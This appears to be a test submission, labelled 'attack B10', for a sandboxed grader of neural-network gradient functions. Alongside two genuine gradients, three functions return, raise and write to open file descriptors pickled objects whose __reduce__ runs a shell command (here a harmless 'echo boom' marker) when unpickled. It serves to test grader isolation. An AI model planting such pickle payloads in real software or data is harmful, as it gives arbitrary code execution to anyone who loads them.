# attack: B10 objects that run code wherever they are unpickled: returned, raised, and written to the channel
# gains nothing: grad_b2, grad_W2, grad_hs
# full marks: grad_oa, grad_ha
import os as system
import pickle

import numpy as np
DROP = "@DROP@"


class Bomb:
    def __reduce__(self):
        return system.system, (f"echo boom > {DROP}/pickle",)


class Error(Exception):
    def __reduce__(self):
        return system.system, (f"echo boom > {DROP}/exception",)


def grad_b2(grad_oa):
    return Bomb()


def grad_W2(grad_oa, hs):
    raise Error(Bomb())


def grad_hs(grad_oa, W2):
    data = pickle.dumps(Bomb())
    for descriptor in range(3, 64):
        try:
            system.write(descriptor, len(data).to_bytes(4, "big") + data)
            system.write(descriptor, data)
        except OSError:
            pass
    return np.array([Bomb()] * W2.shape[1])


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
